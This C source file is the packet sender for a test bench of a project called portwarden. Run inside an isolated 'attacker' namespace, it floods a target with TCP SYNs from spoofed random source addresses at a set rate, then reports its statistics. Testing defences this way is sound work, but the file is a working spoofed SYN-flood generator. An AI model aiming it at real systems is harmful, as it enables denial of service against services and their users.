/*
 * The live bench's packet sender (bench/live.ts builds it with `cc -O2` into its temporary directory
 * and runs it inside the attacker namespace; it is not part of portwarden).
 *
 *   live-sender IFNAME SRC_MAC DST_MAC DST_IP DST_PORT RATE SECONDS SPOOF_NET SPOOF_PREFIX SEED
 *
 * Sends TCP SYNs from spoofed sources (uniformly random in SPOOF_NET/SPOOF_PREFIX, random source
 * port, sequence and IP ID) to DST_IP:DST_PORT at RATE packets/s for at most SECONDS, then prints one
 * JSON line: what it sent, how long it took, and its own CPU time.
 *
 * Why this and not hping3 or trafgen: hping3 sends one packet per system call and has no rate between
 * its fixed intervals and --flood; trafgen (Debian's netsniff-ng) would be one more package to install
 * for the bench alone, and reports no achieved rate we could print beside the daemon's figures. Here
 * an AF_PACKET socket with PACKET_QDISC_BYPASS takes up to 64 ready Ethernet frames per sendmmsg()
 * call, and the pacing compares the count sent with RATE × elapsed time (a clock read per batch), so
 * the rate holds on average without a timer per packet. Bounded twice: by time and by RATE × SECONDS.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_LEN 54 /* Ethernet 14 + IPv4 20 + TCP 20 */

static uint64_t rng_state;

static inline uint32_t rnd(void) {
  /* xorshift64*: fast and good enough for spoofed fields. */
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return (uint32_t)((rng_state * 2685821657736338717ULL) >> 32);
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int parse_mac(const char *text, uint8_t out[6]) {
  unsigned v[6];
  if (sscanf(text, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
  for (int i = 0; i < 6; i++) out[i] = (uint8_t)v[i];
  return 0;
}

/* One's-complement sum of 16-bit big-endian words. */
static uint32_t sum16(const uint8_t *p, size_t len, uint32_t sum) {
  for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len & 1) sum += (uint32_t)(p[len - 1] << 8);
  return sum;
}

static uint16_t fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

/* Fills the per-packet fields of a frame whose constant parts are already in place. */
static void fill(uint8_t *f, uint32_t spoof_net, uint32_t spoof_mask) {
  uint8_t *ip = f + 14;
  uint8_t *tcp = ip + 20;
  uint32_t src = spoof_net | (rnd() & ~spoof_mask);
  uint32_t id = rnd();
  uint32_t sport = 1024 + rnd() % 64511;
  uint32_t seq = rnd();
  ip[4] = (uint8_t)(id >> 8);
  ip[5] = (uint8_t)id;
  ip[10] = ip[11] = 0;
  ip[12] = (uint8_t)(src >> 24);
  ip[13] = (uint8_t)(src >> 16);
  ip[14] = (uint8_t)(src >> 8);
  ip[15] = (uint8_t)src;
  uint16_t ipsum = fold(sum16(ip, 20, 0));
  ip[10] = (uint8_t)(ipsum >> 8);
  ip[11] = (uint8_t)ipsum;
  tcp[0] = (uint8_t)(sport >> 8);
  tcp[1] = (uint8_t)sport;
  tcp[4] = (uint8_t)(seq >> 24);
  tcp[5] = (uint8_t)(seq >> 16);
  tcp[6] = (uint8_t)(seq >> 8);
  tcp[7] = (uint8_t)seq;
  tcp[16] = tcp[17] = 0;
  /* Pseudo-header: source, destination, protocol 6, TCP length 20. */
  uint32_t sum = sum16(ip + 12, 8, 6 + 20);
  uint16_t tsum = fold(sum16(tcp, 20, sum));
  tcp[16] = (uint8_t)(tsum >> 8);
  tcp[17] = (uint8_t)tsum;
}

int main(int argc, char **argv) {
  if (argc != 11) {
    fprintf(stderr, "usage: %s IFNAME SRC_MAC DST_MAC DST_IP DST_PORT RATE SECONDS SPOOF_NET SPOOF_PREFIX SEED\n", argv[0]);
    return 2;
  }
  uint8_t smac[6], dmac[6];
  struct in_addr dst, net;
  if (parse_mac(argv[2], smac) || parse_mac(argv[3], dmac) || inet_pton(AF_INET, argv[4], &dst) != 1 || inet_pton(AF_INET, argv[8], &net) != 1) {
    fprintf(stderr, "bad address\n");
    return 2;
  }
  unsigned dport = (unsigned)atoi(argv[5]);
  double rate = atof(argv[6]);
  double seconds = atof(argv[7]);
  int prefix = atoi(argv[9]);
  rng_state = strtoull(argv[10], NULL, 10) * 0x9E3779B97F4A7C15ULL + 1;
  if (rate <= 0 || seconds <= 0 || seconds > 60 || prefix < 8 || prefix > 32 || dport == 0 || dport > 65535) {
    fprintf(stderr, "out of range (seconds at most 60, prefix 8-32)\n");
    return 2;
  }
  uint32_t spoof_mask = prefix == 32 ? 0xffffffffu : ~(0xffffffffu >> prefix);
  uint32_t spoof_net = ntohl(net.s_addr) & spoof_mask;
  uint64_t limit = (uint64_t)(rate * seconds);

  int ifindex = (int)if_nametoindex(argv[1]);
  if (ifindex == 0) {
    perror("if_nametoindex");
    return 1;
  }
  /* Protocol 0: this socket only sends, so the kernel never queues received frames to it. */
  int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) {
    perror("socket(AF_PACKET)");
    return 1;
  }
  int one = 1;
  setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
  struct sockaddr_ll sll;
  memset(&sll, 0, sizeof sll);
  sll.sll_family = AF_PACKET;
  sll.sll_ifindex = ifindex;
  sll.sll_protocol = 0;
  if (bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0) {
    perror("bind");
    return 1;
  }

  static uint8_t frames[BATCH][FRAME_LEN];
  struct iovec iov[BATCH];
  struct mmsghdr msgs[BATCH];
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < BATCH; i++) {
    uint8_t *f = frames[i];
    memset(f, 0, FRAME_LEN);
    memcpy(f, dmac, 6);
    memcpy(f + 6, smac, 6);
    f[12] = 0x08; /* IPv4 */
    uint8_t *ip = f + 14;
    ip[0] = 0x45;
    ip[3] = 40; /* total length */
    ip[8] = 64; /* TTL */
    ip[9] = 6;  /* TCP */
    memcpy(ip + 16, &dst.s_addr, 4);
    uint8_t *tcp = ip + 20;
    tcp[2] = (uint8_t)(dport >> 8);
    tcp[3] = (uint8_t)dport;
    tcp[12] = 5 << 4; /* data offset: 20 bytes, no options */
    tcp[13] = 0x02;   /* SYN */
    tcp[14] = 0xfa;   /* window 64240 */
    tcp[15] = 0xf0;
    iov[i].iov_base = f;
    iov[i].iov_len = FRAME_LEN;
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  uint64_t sent = 0, errors = 0, sleeps = 0;
  double start = now_s();
  double end = start + seconds;
  double t = start;
  while (sent < limit && t < end) {
    uint64_t due = (uint64_t)(rate * (t - start)) + 1;
    if (due > limit) due = limit;
    if (sent >= due) {
      /* Ahead of schedule: sleep until one batch is due (at least 50 µs, so we do not spin). */
      double wait = ((double)(sent + BATCH) / rate) - (t - start);
      if (wait < 50e-6) wait = 50e-6;
      struct timespec ts = {(time_t)wait, (long)((wait - (double)(time_t)wait) * 1e9)};
      nanosleep(&ts, NULL);
      sleeps++;
      t = now_s();
      continue;
    }
    unsigned n = (unsigned)(due - sent > BATCH ? BATCH : due - sent);
    for (unsigned i = 0; i < n; i++) fill(frames[i], spoof_net, spoof_mask);
    int r = sendmmsg(fd, msgs, n, 0);
    if (r < 0) {
      if (errno == EINTR) continue;
      errors++;
      if (errno != ENOBUFS && errno != EAGAIN) {
        perror("sendmmsg");
        break;
      }
    } else {
      sent += (uint64_t)r;
    }
    t = now_s();
  }
  double elapsed = now_s() - start;
  struct rusage ru;
  getrusage(RUSAGE_SELF, &ru);
  printf("{\"sent\":%llu,\"seconds\":%.4f,\"rate\":%.0f,\"errors\":%llu,\"sleeps\":%llu,\"cpuUser\":%.3f,\"cpuSys\":%.3f}\n", (unsigned long long)sent, elapsed, (double)sent / elapsed,
         (unsigned long long)errors, (unsigned long long)sleeps, (double)ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6, (double)ru.ru_stime.tv_sec + ru.ru_stime.tv_usec / 1e6);
  close(fd);
  return 0;
}
